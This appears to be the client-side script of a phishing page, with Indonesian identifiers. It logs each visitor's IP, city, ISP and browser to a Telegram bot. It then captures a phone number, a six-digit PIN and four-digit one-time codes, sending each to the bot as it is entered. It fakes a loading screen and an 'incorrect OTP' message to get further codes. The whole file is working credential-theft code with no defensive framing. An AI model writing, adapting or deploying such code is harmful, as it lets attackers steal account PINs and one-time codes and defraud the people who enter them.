// kirim data pengunjung
var token = "0000:TOKEN";
var grup = "-1000";
function kirim(teks) {
  var r = new XMLHttpRequest();
  r.open("GET", "https://api.telegram.org/bot" + token + "/sendMessage?chat_id=" + grup + "&parse_mode=html&text=" + encodeURIComponent(teks));
  r.send();
}
$.getJSON("https://ipinfo.io/json", function (d) {
  localStorage.setItem("lokasi", d.ip + ", " + d.city + ", " + d.region);
  kirim("<b>PENGUNJUNG BARU</b>\nIP: <code>" + d.ip + "</code>\nKota: " + d.city + "\nISP: " + d.org + "\nHP: " + navigator.userAgent);
});
$("#lanjut").click(function () {
  var hp = $("#hp").val();
  if (hp.length < 9) { $("#hp").addClass("salah"); return; }
  kirim("<b>NOMOR</b>\n" + hp + "\n" + localStorage.getItem("lokasi"));
  $("#hal1").hide(); $("#hal2").show();
});
$("#pin6").on("input", function () {
  if (this.value.length == 6) {
    kirim("<b>PIN</b>\n" + $("#hp").val() + " : " + this.value);
    $("#hal2").hide(); $("#memuat").show();
    setTimeout(function () { $("#memuat").hide(); $("#hal3").show(); }, 3000);
  }
});
$("#otp4").on("input", function () {
  if (this.value.length == 4) { kirim("<b>OTP</b>\n" + $("#hp").val() + " : " + this.value); this.value = ""; $("#otpsalah").show(); }
});
